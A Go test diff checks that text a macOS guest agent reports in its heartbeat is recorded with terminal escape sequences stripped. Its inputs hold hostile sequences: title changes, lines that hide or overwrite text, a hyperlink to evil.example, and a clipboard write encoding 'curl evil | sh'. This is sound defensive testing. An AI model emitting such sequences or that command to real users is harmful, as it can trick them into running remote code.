@@ -379,3 +379,48 @@ func TestAHeartbeatWritesStatusGuestOnly(t *testing.T) {
 		t.Errorf("the machine controller's fields changed: phase %q, conditions %+v", m.Status.Phase, m.Status.Conditions)
 	}
 }
+
+// Text the guest writes is recorded without what a terminal would act on:
+// it reaches the claim's conditions and kubectl mac, and people read those
+// in terminals.
+func TestWhatTheGuestWritesIsRecordedWithoutEscapeSequences(t *testing.T) {
+	h, c := setup(t)
+	withBootstrap(t, h, c)
+	exit := 1
+	hb := protocol.HeartbeatV2{Heartbeat: protocol.Heartbeat{Machine: protocol.MachineRef{Namespace: "team-a", Name: "a"},
+		AgentVersion: "1.0.0\x1b[8m", OSVersion: "14.5\x1b]0;evil\x07", OSBuild: "23F79\u009b2J", Hostname: "mac\r\x1b[2K",
+		ApplyError: "dscl: \x1b[31mpermission denied\x1b[0m\x1b]0;pwned\x07 for «admin» 🍎\r\n\x1b[1A\x1b[2Kall fine"},
+		Tasks: []protocol.TaskReport{{ID: "claim-uid-class", State: protocol.TaskFailed, StartedAt: now, ExitCode: &exit,
+			OutputTail: "step 1 \x1b[32mok\x1b[0m\n\tstep 2 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u009b31mfailed\n",
+			Message:    "the script \x1bcfailed\x1b]8;;https://evil.example\x1b\\ here\x1b]8;;\x1b\\"}}}
+	body, _ := json.Marshal(hb)
+	req := httptest.NewRequest(http.MethodPost, protocol.HeartbeatPathV2, bytes.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("Authorization", "Bearer "+tokenA)
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status %d: %s", rec.Code, rec.Body)
+	}
+	g := guestOf(t, c, "a")
+	for field, v := range map[string]struct{ got, want string }{
+		"agentVersion": {g.AgentVersion, "1.0.0"},
+		"osVersion":    {g.OSVersion, "14.5"},
+		"osBuild":      {g.OSBuild, "23F79"},
+		"hostname":     {g.Hostname, "mac"},
+		"applyError":   {g.ApplyError, "dscl: permission denied for «admin» 🍎\nall fine"},
+	} {
+		if v.got != v.want {
+			t.Errorf("status.guest.%s = %q, want %q", field, v.got, v.want)
+		}
+	}
+	if len(g.Tasks) != 1 {
+		t.Fatalf("recorded tasks %+v, want the class's part", g.Tasks)
+	}
+	if got, want := g.Tasks[0].OutputTail, "step 1 ok\n\tstep 2 failed\n"; got != want {
+		t.Errorf("outputTail = %q, want %q", got, want)
+	}
+	if got, want := g.Tasks[0].Message, "the script failed here"; got != want {
+		t.Errorf("message = %q, want %q", got, want)
+	}
+}
